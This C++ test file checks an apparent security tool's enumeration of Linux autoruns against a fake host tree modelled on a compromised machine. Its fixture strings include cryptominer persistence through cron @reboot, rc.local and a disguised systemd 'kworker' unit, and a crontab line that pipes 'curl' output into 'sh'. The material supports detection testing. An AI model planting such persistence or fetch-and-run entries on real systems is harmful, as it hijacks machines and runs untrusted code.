#include "otguard/platform/autoruns.h"

#include <sys/stat.h>
#include <unistd.h>

#include <filesystem>
#include <map>
#include <string>
#include <tuple>

#include <gmock/gmock.h>
#include <gtest/gtest.h>

#include "platform/linux/testing/fake_host.h"
#include "testing/temp_dir.h"

namespace otguard::platform {
namespace {

using ::testing::ElementsAre;
using testutil::TempDir;

using fakes::FakeHost;

// The persistence of a compromised station (msraminer.md) next to a stock Debian's.
void BuildHost(FakeHost& host) {
  host.Write("etc/crontab",
             "SHELL=/bin/sh\n"
             "# m h dom mon dow user command\n"
             "17 * * * * root cd / && run-parts --report /etc/cron.hourly\n"
             "@reboot root \"/usr/local/bin/xmrig\" -c /etc/x.json\n");
  host.Write("etc/cron.d/sysstat", "5-55/10 * * * * root command -v debian-sa1 > /dev/null\n");
  host.Write("etc/cron.d/old.dpkg-old", "* * * * * root /bin/never\n");  // cron skips it
  // An absolute link is followed inside the tree, never to the machine running the test.
  host.Write("opt/tables/plant", "0 1 * * * plant /opt/bin/job\n");
  host.Link("/opt/tables/plant", "etc/cron.d/plant");
  host.Write("var/spool/cron/crontabs/operator", "MAILTO=\"\"\n*/5 * * * * curl -s x | sh\n");
  host.Write("usr/bin/curl", "", 0755);
  host.Write("etc/cron.daily/logrotate", "#!/bin/sh\n", 0755);
  host.Write("etc/cron.daily/.placeholder", "");
  host.Write("etc/cron.daily/update.sh", "#!/bin/sh\n", 0755);  // run-parts skips a name with a dot
  host.Write("etc/cron.weekly/report", "#!/bin/sh\n", 0644);    // and a non-executable file

  host.Write("lib/systemd/system/apt-daily.timer",
             "[Timer]\nOnCalendar=*-*-* 6,18:00\nRandomizedDelaySec=12h\nPersistent=true\n");
  host.Write("lib/systemd/system/apt-daily.service",
             "[Service]\nType=oneshot\nExecStart=/usr/lib/apt/apt.systemd.daily update\n");
  host.Link("/lib/systemd/system/apt-daily.timer",
            "etc/systemd/system/timers.target.wants/apt-daily.timer");
  host.Write("etc/systemd/system/miner.timer",
             "[Timer]\nOnBootSec=5min\nOnUnitActiveSec=1h\nUnit=kworker.service\n");
  host.Write("etc/systemd/system/kworker.service",
             "[Service]\nUser=nobody\nExecStart=-/tmp/.x/kworker --pool x\n");
  host.Write("lib/systemd/system/historian.service", "[Service]\nExecStart=/opt/hist/hist -d\n");
  host.Link("/lib/systemd/system/historian.service",
            "etc/systemd/system/multi-user.target.wants/historian.service");

  host.Write("etc/rc.local", "#!/bin/sh\n/usr/local/bin/xmrig &\n", 0755);
  host.Write("etc/init.d/legacy", "#!/bin/sh\n", 0755);
  host.Link("../init.d/legacy", "etc/rc2.d/S01legacy");
  host.Link("../init.d/legacy", "etc/rc2.d/K01legacy");
  host.Link("/etc/init.d/legacy", "etc/rc5.d/S01legacy");
}

TEST(ListAutorunsTest, FindsCronTimersServicesAndRcScripts) {
  FakeHost host;
  BuildHost(host);
  auto list = ListAutoruns(host.root());
  ASSERT_TRUE(list.has_value()) << list.error().ToString();
  std::vector<std::tuple<AutorunKind, std::string, std::string>> keys;
  std::map<std::string, Autorun> by_name;
  for (const Autorun& a : *list) {
    keys.emplace_back(a.kind, a.location, a.name);
    by_name[a.name] = a;
  }
  using K = AutorunKind;
  EXPECT_THAT(
      keys,
      ElementsAre(
          std::tuple(K::kService, "/lib/systemd/system/historian.service", "historian.service"),
          std::tuple(K::kCron, "/etc/cron.d/plant", "plant:1"),
          std::tuple(K::kCron, "/etc/cron.d/sysstat", "sysstat:1"),
          std::tuple(K::kCron, "/etc/cron.daily", "logrotate"),
          std::tuple(K::kCron, "/etc/cron.daily", "update.sh"),
          std::tuple(K::kCron, "/etc/cron.weekly", "report"),
          std::tuple(K::kCron, "/etc/crontab", "crontab:3"),
          std::tuple(K::kCron, "/etc/crontab", "crontab:4"),
          std::tuple(K::kCron, "/var/spool/cron/crontabs/operator", "operator:2"),
          std::tuple(K::kSystemdTimer, "/etc/systemd/system/miner.timer", "miner.timer"),
          std::tuple(K::kSystemdTimer, "/lib/systemd/system/apt-daily.timer", "apt-daily.timer"),
          std::tuple(K::kRcScript, "/etc/rc.local", "rc.local"),
          std::tuple(K::kRcScript, "/etc/rc2.d", "S01legacy"),
          std::tuple(K::kRcScript, "/etc/rc5.d", "S01legacy")));

  const Autorun& reboot = by_name["crontab:4"];
  EXPECT_EQ(reboot.schedule, "@reboot");
  EXPECT_EQ(reboot.user, "root");
  EXPECT_EQ(reboot.command, "\"/usr/local/bin/xmrig\" -c /etc/x.json");
  EXPECT_EQ(reboot.image, "/usr/local/bin/xmrig");
  EXPECT_TRUE(reboot.enabled);

  const Autorun& user_job = by_name["operator:2"];
  EXPECT_EQ(user_job.user, "operator");
  EXPECT_EQ(user_job.schedule, "*/5 * * * *");
  EXPECT_EQ(user_job.image, "/usr/bin/curl");  // a bare name found through PATH in the tree
  EXPECT_EQ(by_name["sysstat:1"].image, "");
  EXPECT_EQ(by_name["plant:1"].user, "plant");  // the shell builtin `command`: no file

  EXPECT_EQ(by_name["logrotate"].schedule, "daily");
  EXPECT_EQ(by_name["logrotate"].command, "/etc/cron.daily/logrotate");
  EXPECT_TRUE(by_name["logrotate"].enabled);
  EXPECT_FALSE(by_name["update.sh"].enabled);
  EXPECT_FALSE(by_name["report"].enabled);
  EXPECT_EQ(by_name["report"].schedule, "weekly");

  const Autorun& apt = by_name["apt-daily.timer"];
  EXPECT_TRUE(apt.enabled);
  EXPECT_EQ(apt.schedule, "*-*-* 6,18:00");
  EXPECT_EQ(apt.command, "/usr/lib/apt/apt.systemd.daily update");
  EXPECT_EQ(apt.image, "/usr/lib/apt/apt.systemd.daily");
  EXPECT_EQ(apt.user, "root");
  const Autorun& miner = by_name["miner.timer"];
  EXPECT_FALSE(miner.enabled);  // configured, but no *.wants link
  EXPECT_EQ(miner.schedule, "OnBootSec=5min; OnUnitActiveSec=1h");
  EXPECT_EQ(miner.command, "/tmp/.x/kworker --pool x");
  EXPECT_EQ(miner.image, "/tmp/.x/kworker");
  EXPECT_EQ(miner.user, "nobody");

  const Autorun& historian = by_name["historian.service"];
  EXPECT_EQ(historian.command, "/opt/hist/hist -d");
  EXPECT_EQ(historian.image, "/opt/hist/hist");
  EXPECT_EQ(historian.user, "root");

  EXPECT_TRUE(by_name["rc.local"].enabled);
  EXPECT_EQ(by_name["S01legacy"].command, "/etc/init.d/legacy");
  EXPECT_EQ(by_name["S01legacy"].image, "/etc/init.d/legacy");
}

TEST(ListAutorunsTest, NonExecutableRcLocalIsDisabledAndEmptyTreeIsEmpty) {
  FakeHost host;
  host.Write("etc/rc.local", "#!/bin/sh\nexit 0\n", 0644);
  auto list = ListAutoruns(host.root());
  ASSERT_TRUE(list.has_value()) << list.error().ToString();
  ASSERT_EQ(list->size(), 1u);
  EXPECT_FALSE((*list)[0].enabled);

  TempDir empty;
  auto none = ListAutoruns(ConfigRoot{empty.path() + "/absent"});
  ASSERT_FALSE(none.has_value());
  EXPECT_EQ(none.error().code(), StatusCode::kNotFound);
}

TEST(ListAutorunsTest, ReadsThisHost) {
  auto list = ListAutoruns();
  ASSERT_TRUE(list.has_value()) << list.error().ToString();
  for (const Autorun& a : *list) {
    EXPECT_FALSE(a.location.empty());
    EXPECT_FALSE(a.name.empty()) << a.location;
    EXPECT_NE(std::string(AutorunKindName(a.kind)), "") << a.location;
  }
}

}  // namespace
}  // namespace otguard::platform
